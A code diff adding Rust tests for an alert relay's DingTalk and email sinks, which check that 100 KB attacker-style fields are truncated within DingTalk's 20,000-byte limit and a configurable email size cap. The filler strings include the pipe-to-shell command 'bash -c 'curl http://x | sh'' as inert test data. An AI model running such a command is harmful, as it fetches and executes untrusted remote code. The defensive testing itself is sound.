@@ -550,6 +550,39 @@ async fn too_large_is_never_sent_again_as_it_was() {
     }
 }
 
+/// 100 KB of attacker-written text in every field (ASCII shell, CJK, emoji): each message is
+/// taken by a robot enforcing DingTalk's 20,000-byte limit at the first attempt, never a
+/// 460101 and a retry.
+#[tokio::test]
+async fn dingtalk_takes_100_kb_fields_within_its_limit_at_the_first_attempt() {
+    let fake = FakeDingTalk::start(&[("big", RobotRules::default())]).await;
+    let s = sink(
+        &format!(
+            "name = \"dt\"\ntype = \"dingtalk\"\nurl = \"{}\"\nrate_limit = {{ period = \"1ms\" }}\n",
+            fake.url("big")
+        ),
+        &[],
+    );
+    let units = [
+        "bash -c 'curl http://x | sh' ",
+        "异常登录进程命令行",
+        "😀🔥🚨",
+        "a异😀\"\\\n",
+    ];
+    for (i, unit) in units.iter().enumerate() {
+        let huge = unit.repeat(100_000 / unit.len() + 1);
+        assert!(huge.len() >= 100_000);
+        let o = deliver(&s, &hostile(i, &huge)).await;
+        assert!(o.is_delivered(), "{unit:?}: {o:?}");
+    }
+    let log = fake.log();
+    assert_eq!(log.len(), units.len(), "one request each: no 460101 retry");
+    for (r, unit) in log.iter().zip(units) {
+        assert_eq!(r.errcode, 0, "{unit:?}");
+        assert!(r.size <= 20_000, "{unit:?}: {} bytes", r.size);
+    }
+}
+
 #[tokio::test]
 async fn dingtalk_injection_corpus_adds_no_mention_link_or_markup() {
     let rules = RobotRules {
@@ -869,11 +902,16 @@ impl SmtpPeer {
     }
 
     fn sink(&self, to: &str, password: &str) -> Sink {
+        self.sink_with(to, password, "")
+    }
+
+    /// [`SmtpPeer::sink`] with `extra` keys.
+    fn sink_with(&self, to: &str, password: &str, extra: &str) -> Sink {
         sink(
             &format!(
                 "name = \"mail\"\ntype = \"email\"\nhost = \"localhost\"\nport = {}\ntls = \"starttls\"\n\
                  username = \"user\"\npassword = {{ env = \"SMTP_PASS\" }}\nfrom = \"sasrelay <alerts@example.com>\"\n\
-                 to = [{to}]\ncc = [\"audit@example.com\"]\nca_file = \"{}\"\nrate_limit = {{ period = \"1ms\" }}\ntimeout = \"10s\"\n",
+                 to = [{to}]\ncc = [\"audit@example.com\"]\nca_file = \"{}\"\nrate_limit = {{ period = \"1ms\" }}\ntimeout = \"10s\"\n{extra}",
                 self.port,
                 self.ca()
             ),
@@ -945,17 +983,23 @@ async fn email_goes_over_starttls_with_auth_as_valid_multipart_mime() {
 #[tokio::test]
 async fn an_email_with_huge_fields_stays_within_its_cap() {
     let peer = SmtpPeer::start();
-    let s = peer.sink("\"oncall@example.com\"", "pass");
     let huge = "bash -c 'curl http://x | sh' 命令行 ".repeat(3_000);
     assert!(huge.len() > 100_000);
     let p = hostile(1, &huge);
-    let o = deliver(&s, &p).await;
-    assert!(o.is_delivered(), "{o:?}");
-    let got = peer.received();
-    assert_eq!(got.len(), 1);
-    let size = got[0]["size"].as_u64().unwrap();
-    assert!(size <= 256 * 1024, "{size} bytes");
-    assert_eq!(got[0]["defects"], json!([]), "{}", got[0]["defects"]);
+    // The default cap, then a smaller one set by `max_message_bytes`.
+    for (n, (extra, cap)) in [("", 256 * 1024), ("max_message_bytes = 65536\n", 65_536)]
+        .into_iter()
+        .enumerate()
+    {
+        let s = peer.sink_with("\"oncall@example.com\"", "pass", extra);
+        let o = deliver(&s, &p).await;
+        assert!(o.is_delivered(), "{o:?}");
+        let got = peer.received();
+        assert_eq!(got.len(), n + 1);
+        let size = got[n]["size"].as_u64().unwrap();
+        assert!(size <= cap, "{size} bytes over {cap}");
+        assert_eq!(got[n]["defects"], json!([]), "{}", got[n]["defects"]);
+    }
 }
 
 #[tokio::test]
